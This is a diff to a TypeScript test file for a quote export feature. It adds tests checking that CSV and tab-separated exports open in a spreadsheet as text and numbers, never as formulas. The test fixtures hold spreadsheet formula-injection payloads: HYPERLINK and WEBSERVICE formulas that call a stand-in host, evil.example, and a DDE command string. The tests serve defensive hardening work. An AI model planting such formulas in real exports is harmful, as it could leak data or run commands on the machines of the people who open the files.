@@ -3,6 +3,7 @@ import { translator } from '@shared/i18n/translator';
 import { priceInfo } from '../../../../test/support/price-info';
 import { priceLine, quoteTotal, type PricedLine } from '@shared/quote/priced-quote';
 import type { PriceBasis } from '@shared/quote/quote-figures';
+import { openAsSpreadsheet, pasteIntoSpreadsheet } from '../../../../test/support/spreadsheet-reading';
 import { decimalSeparator, quoteRows, toCsv, toTsv } from './quote-export';
 
 const line: PricedLine = {
@@ -29,7 +30,9 @@ type Options = { locale: string; words: typeof en; customer: boolean; basis?: Pr
 const rows = (lines: PricedLine[], options: Options): string[][] => {
   const { customer, ...rest } = options;
   const basis = options.basis ?? 'gross';
-  return quoteRows(lines, quoteTotal(lines, basis), { ...rest, copy: customer ? 'customer' : 'internal', basis });
+  const cells = quoteRows(lines, quoteTotal(lines, basis), { ...rest, copy: customer ? 'customer' : 'internal', basis });
+  // As the screen would word them: a number cell's text.
+  return cells.map((row) => row.map((cell) => (typeof cell === 'string' ? cell : cell.number)));
 };
 
 describe('quote export', () => {
@@ -215,5 +218,40 @@ describe('quote export', () => {
         'en-US',
       ),
     ).toBe('\ufeffa,1.5\r\n"b,c",d\r\n');
+  });
+});
+
+describe('what a spreadsheet makes of the exports', () => {
+  const hostile = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+    '=WEBSERVICE("https://evil.example/")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '+49 711 123',
+    '-2+3',
+    '\t=1+1',
+  ];
+  const lines = hostile.map((description, index): PricedLine => ({ ...line, artnr: `90015${index}`, description }));
+
+  it.each([
+    ['de-DE', ';'],
+    ['en-US', ','],
+  ] as const)('the CSV (%s) opens with every description as text and every figure as a number', (locale, delimiter) => {
+    const table = quoteRows(lines, quoteTotal(lines, 'gross'), { locale, words: en, copy: 'internal', basis: 'gross' });
+    const opened = openAsSpreadsheet(toCsv(table, locale), delimiter, locale);
+    expect(opened.flat().filter((cell) => 'formula' in cell)).toEqual([]);
+    expect(opened.slice(1, 1 + lines.length).map((row) => row[1])).toEqual(hostile.map((text) => ({ text })));
+    // Quantity, price, factor, factor price, line total: numbers a sum can use.
+    expect(opened[1]?.slice(2, 7)).toEqual([{ number: 3 }, { number: 47.85 }, { number: 1.25 }, { number: 59.81 }, { number: 179.43 }]);
+    const totalRow = opened[1 + lines.length];
+    expect(totalRow?.[6]).toEqual({ number: 1076.58 });
+  });
+
+  it('"Copy table" pastes every description as text and every figure as a number', () => {
+    const table = quoteRows(lines, quoteTotal(lines, 'gross'), { locale: 'de-DE', words: de, copy: 'customer', basis: 'gross' });
+    const pasted = pasteIntoSpreadsheet(toTsv(table), 'de-DE');
+    expect(pasted.flat().filter((cell) => 'formula' in cell)).toEqual([]);
+    expect(pasted[1]?.slice(1, 5)).toEqual([{ text: hostile[0] }, { number: 3 }, { number: 59.81 }, { number: 179.43 }]);
+    // The tab inside a cell becomes a space, and the cell stays text.
+    expect(pasted[6]?.[1]).toEqual({ text: ' =1+1' });
   });
 });
